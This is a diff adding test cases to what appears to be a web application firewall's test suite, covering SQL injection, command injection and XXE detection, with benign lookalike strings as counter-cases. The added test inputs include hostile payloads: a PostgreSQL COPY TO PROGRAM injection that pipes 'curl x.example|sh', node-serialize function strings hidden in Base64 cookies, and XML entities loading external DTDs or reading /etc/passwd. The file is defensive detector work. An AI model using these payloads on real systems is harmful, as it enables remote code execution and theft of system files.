@@ -100,6 +100,15 @@ class SQLiTests(ClassCase):
         self.blocked(Request(b"POST", b"/post", BROWSER + [
             (b"Content-Type", b"application/x-www-form-urlencoded")], b"Compress%20%28"), "sqli")
 
+    def test_copy_program(self) -> None:
+        """PostgreSQL's COPY that runs a command, of a table or of a query, with or without ';'."""
+        for payload in ("1'; COPY (SELECT '') TO PROGRAM 'curl x.example|sh'--",
+                        "x' copy cmd_exec from program 'id'--", "COPY t(c) FROM PROGRAM $$id$$"):
+            self.blocked(query(payload), "sqli")
+        for text in ("please copy the files to the program folder",
+                     "Copy this text to the program 'Notepad' and save it"):
+            self.passes(query(text))
+
     def test_expression_lookalikes(self) -> None:
         """English words before a parenthesis, code that ends in ';, versions and decimals."""
         for text in ("Left (driver side)", "Trim (optional)", "Upper (3rd floor)", "count (approx.)",
@@ -245,6 +254,13 @@ class CommandInjectionTests(ClassCase):
         self.passes(query("see process[step 2] of the guide"))
         self.passes(json_body('{"price": "$1:00", "note": "constructor of the house"}'))
 
+    def test_escapes_inside_base64(self) -> None:
+        """Base64 of text hidden with JavaScript escapes, and Base64 behind escapes, both decoded."""
+        hidden = r"_$$\u004e\u0044_FUNC$$_\u0066unction()"
+        self.blocked(header("Cookie", "c=" + base64.b64encode(hidden.encode()).decode()), "rce")
+        escaped = base64.b64encode(b"_$$ND_FUNC$$_function()").decode()
+        self.blocked(header("Cookie", r"c=\u0058" + escaped[1:]), "rce")
+
     def test_line_break(self) -> None:
         """A command on a line of its own at the end of a value (x%0aid, %0awhoami, %0asleep 7)."""
         for payload in ("example.org\nid", "8.8.8.8\nwhoami", "a\r\nsleep 7", "x\nls -la /",
@@ -387,6 +403,12 @@ class RequestForgeryTests(ClassCase):
         self.blocked(xml_body('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM '
                               '"http://x.example/e">]><r>&x;</r>'), "xxe")
         self.blocked(query('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://x.example/d.dtd"> %p;]>'), "xxe")
+
+    def test_external_dtd_only(self) -> None:
+        """A DOCTYPE that loads an external DTD, with no internal subset, in the body."""
+        self.blocked(xml_body('<!DOCTYPE r SYSTEM "http://x.example/evil.dtd"><r>1</r>'), "xxe")
+        self.blocked(xml_body('<?xml version="1.0"?>\n<!DOCTYPE r PUBLIC "-//A//EN" '
+                              '"file:///etc/passwd"><r/>'), "xxe")
 
     def test_lookalikes(self) -> None:
         """A loopback redirect URI (RFC 8252), a plain XML document, a link."""
